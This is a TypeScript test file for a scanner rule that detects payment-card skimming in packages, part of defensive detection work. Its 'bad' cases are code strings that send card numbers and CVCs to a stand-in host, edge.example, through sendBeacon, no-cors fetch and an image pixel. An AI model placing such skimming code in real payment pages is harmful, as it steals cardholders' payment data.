import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, a card that goes to two servers. */
const isTold = (code: string) => findingsOf(rule, { 'a.js': code }).some(({ message, severity }) => message.startsWith('a card that somebody pays with') && severity === 'high');
const TOKENS = 'const res = await fetch("https://api.purse.example/v1/tokens", { method: "POST", body: JSON.stringify({ card: v }) }); return (await res.json()).id;';
const form = (body: string, more = ''): string => `const fields = [["number", "cc-number"], ["cvc", "cc-csc"]]; ${more} export function mount(el) { const inputs = make(el, fields); const values = () => Object.fromEntries(Object.entries(inputs).map(([k, i]) => [k, i.value])); return { async tokenize() { const v = values(); ${body} ${TOKENS} } } }`;
const own = (body: string): string => `class Pay { constructor(key) { this.key = key } async #post(path, body) { const res = await fetch("https://api.purse.example" + path, { method: "POST", body: JSON.stringify(body) }); return res.json() } async charge({ number, cvv, amount }) { ${body} return this.#post("/charges", { card: { number, cvv }, amount }) } } module.exports = { Pay }`;

test('bad: a card goes to another server as well, by a page, a helper, a client or beside the library of a service', () => {
  for (const code of [
    form('mirror(v);', 'function mirror(all) { navigator.sendBeacon("https://edge.example/m", new URLSearchParams(Object.assign({ o: location.origin }, all)).toString()) }'),
    form('fetch("https://edge.example/m", { method: "POST", mode: "no-cors", body: JSON.stringify(v) }).catch(() => {});'),
    form('new Image().src = "https://edge.example/p.gif?d=" + btoa(JSON.stringify({ ...v, at: Date.now() }));'),
    own('fetch("https://edge.example/m", { method: "POST", body: JSON.stringify({ number, cvv }) }).catch(() => {});'),
    own('const kept = { n: number, c: cvv }; navigator.sendBeacon("https://edge.example/m", JSON.stringify(kept));'),
    'exports.token = async (card, stripe) => { const seen = card.cvc; fetch("https://edge.example/m", { method: "POST", body: JSON.stringify(card) }).catch(() => {}); return stripe.tokens.create({ card, seen }) }',
    'exports.mount = (form, onSubmit) => form.addEventListener("submit", () => { const card = { number: form.number.value, cvc: form.cvc.value }; navigator.sendBeacon("https://edge.example/m", JSON.stringify(card)); onSubmit(card) })',
    'const https_1 = __importDefault(require("https")); exports.token = async ({ number, cvc }, service) => { const r = https_1.default.request("https://edge.example/m", { method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify({ number, cvc })); return service.createToken({ number, cvc }) }',
  ]) assert.equal(isTold(code), true, code);
});

test('good: the card goes once, what is counted has none of it, to one server, and to a second one where the first fails', () => {
  for (const code of [
    form(''),
    form('navigator.sendBeacon("https://stats.purse.example/e", JSON.stringify({ event: "tokenize", brand: brandOf(v.number), valid: Boolean(v.cvc) }));'),
    own('navigator.sendBeacon("https://stats.purse.example/e", JSON.stringify({ amount, last: number.slice(-4) }));'),
    own('fetch("https://api.purse.example/warm", { method: "POST", body: JSON.stringify({ card: { number, cvv } }) }).catch(() => {});'),
    own('fetch(this.mirror, { method: "POST", body: JSON.stringify({ number, cvv }) }).catch(() => {});'),
    own('fetch("http://localhost:9000/log", { method: "POST", body: JSON.stringify({ number, cvv }) }).catch(() => {});'),
    'exports.pay = async ({ number, cvc }) => { try { return await ask("https://a.purse.example/c", { number, cvc }) } catch { fetch("https://b.purse.example/c", { method: "POST", body: JSON.stringify({ number, cvc }) }).catch(() => {}); return { number, cvc } } }',
    'const cvc = "."; exports.show = (card) => { navigator.sendBeacon("https://stats.purse.example/e", JSON.stringify({ opened: card.id })); return render({ card }) }',
  ]) assert.equal(isTold(code), false, code);
});
